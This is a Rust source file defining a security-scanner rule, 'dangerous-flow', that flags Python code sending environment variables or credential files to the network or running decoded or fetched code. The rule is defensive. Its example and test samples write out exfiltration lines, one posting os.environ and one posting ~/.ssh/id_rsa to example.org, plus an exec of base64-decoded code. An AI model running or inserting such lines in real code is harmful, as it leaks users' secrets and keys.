use weighhouse_core::Severity;
use weighhouse_formats::python::{Flow, PythonFacts, Scope};

use super::acts::{Role, role, when};
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// Python code carries data from where it should stay to where it should not go.
    ///
    /// # What it detects
    ///
    /// Values from the environment, from files of credentials, from the network or from encoded constants that reach the network, an
    /// interpreter, a deserialiser or a file, within one file.
    ///
    /// # Why it matters
    ///
    /// This is what theft and droppers look like: keys sent out, code fetched or decoded and run.
    ///
    /// # Example
    ///
    /// `requests.post(url, data=dict(os.environ))`
    ///
    /// # What to do
    ///
    /// Do not run it. If keys may have been sent, replace them.
    ///
    /// # References
    ///
    /// - <https://huggingface.co/docs/transformers/custom_models>
    /// - <https://cwe.mitre.org/data/definitions/506.html>
    pub(crate) DangerousFlow {
        id: "WH-COD-004",
        slug: "dangerous-flow",
        since: "0.1.0",
        severity: High,
        confidence: Medium,
        formats: [Python, Notebook],
        cwe: [506, 200],
        owasp: ["LLM03", "LLM04"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for DangerousFlow {
    fn python(&self, facts: &PythonFacts, cx: &mut Context<'_>) {
        let role = role(cx.name(), cx.node());
        for flow in &facts.flows {
            let Some(severity) = weigh(flow, role) else { continue };
            cx.report(format!(
                "data of the kind {} reaches {} through {}",
                quote(flow.source),
                quote(flow.sink),
                quote(&flow.callee)
            ))
            .severity(severity)
            .at(flow.region)
            .line(flow.line)
            .key(format!("{} {} {}", flow.source, flow.sink, flow.callee))
            .evidence(when(&flow.scope))
            .emit();
        }
    }
}

fn weigh(flow: &Flow, role: Role) -> Option<Severity> {
    use Severity::{Critical, High, Low, Medium};
    let at_import = flow.scope == Scope::Import;
    match (flow.source, flow.sink) {
        // A free port asked of a socket ends up in a command as well.
        ("network", "execution") if !at_import => Some(High),
        ("network" | "decoded literal", "execution") | ("credential file", "network") => Some(Critical),
        ("environment", "network") if at_import => Some(if role == Role::Loaded { Critical } else { Medium }),
        // A key in the environment that is sent to its service is ordinary in a client.
        ("environment", "network") => Some(if role == Role::Loaded { Medium } else { Low }),
        ("network" | "decoded literal", "deserialisation") => Some(High),
        ("environment", "execution") => Some(Medium),
        ("network", "file") if role == Role::Loaded => Some(Low),
        _ => None,
    }
}

crate::samples! {
    DangerousFlow,
    bad: {
        "the environment is sent away" => [("modeling_x.py", b"import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".to_vec())],
        "a decoded program is run" => [("modeling_x.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec())],
        "keys are sent away" => [("modeling_x.py", b"import requests, os\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org', data=key)\n".to_vec())],
    },
    ok: {
        "an ordinary model" => [("modeling_x.py", super::super::acts::ORDINARY.as_bytes().to_vec())],
    },
}
